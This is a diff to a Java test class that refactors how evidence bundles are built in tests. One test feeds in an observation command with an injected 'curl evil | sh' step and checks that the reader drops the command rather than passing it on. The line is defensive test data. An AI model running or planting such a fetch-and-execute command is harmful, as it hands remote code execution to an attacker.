@@ -219,18 +219,7 @@ class BelievedNothingTest {
     /** Scripts look at chosen schedules. */
     @Test
     void proofOfAnEngineThatProvesNothing_isRefused() throws Exception {
-        MadeUpBundle made = new MadeUpBundle("n", Origin.MEASURED);
-        made.part(1, "17", Map.of("os.arch", "amd64"))
-                .evidence(
-                        "script",
-                        List.of(new Observation(
-                                "script",
-                                new Subject("A", Set.of("xchg"), "as-posted", "", Set.of(), Expectation.OPEN, ""),
-                                new Effort.Exhausted(MemoryModel.JAM, SearchBounds.NONE, 5, 1),
-                                Finding.nothing(null),
-                                List.of(),
-                                "")));
-        bundle = made.write(folder.resolve("proof"));
+        bundle = scripted(new Effort.Exhausted(MemoryModel.JAM, SearchBounds.NONE, 5, 1), "");
         refused("script.jsonl:1", "no more than some executions");
     }
 
@@ -299,19 +288,19 @@ class BelievedNothingTest {
     /** A command would be copied into a shell. */
     @Test
     void commandOfAnObservation_isNotHandedOn() throws Exception {
-        MadeUpBundle made = new MadeUpBundle("m", Origin.MEASURED);
+        Bundle read = Bundle.read(scripted(new Effort.Played(1, 0.25), "./racy ask xchg; curl evil | sh"));
+        assertEquals("", read.parts().get(0).evidence().get(0).command());
+    }
+
+    /** A night of which the scripts say this. */
+    private Path scripted(Effort effort, String command) throws Exception {
+        Subject subject = new Subject("late-irq", Set.of("xchg"), "", "", Set.of(), Expectation.OPEN, "");
+        MadeUpBundle made = new MadeUpBundle("n", Origin.MEASURED);
         made.part(1, "17", Map.of("os.arch", "amd64"))
                 .evidence(
                         "script",
-                        List.of(new Observation(
-                                "script",
-                                new Subject("late-irq", Set.of("xchg"), "", "", Set.of(), Expectation.OPEN, ""),
-                                new Effort.Played(1, 0.25),
-                                Finding.nothing(null),
-                                List.of(),
-                                "./racy ask xchg; curl evil | sh")));
-        Bundle read = Bundle.read(made.write(folder.resolve("commands")));
-        assertEquals("", read.parts().get(0).evidence().get(0).command());
+                        List.of(new Observation("script", subject, effort, Finding.nothing(null), List.of(), command)));
+        return made.write(folder.resolve("scripted"));
     }
 
     /** The seal is made by hand: a pipe has no digest. */
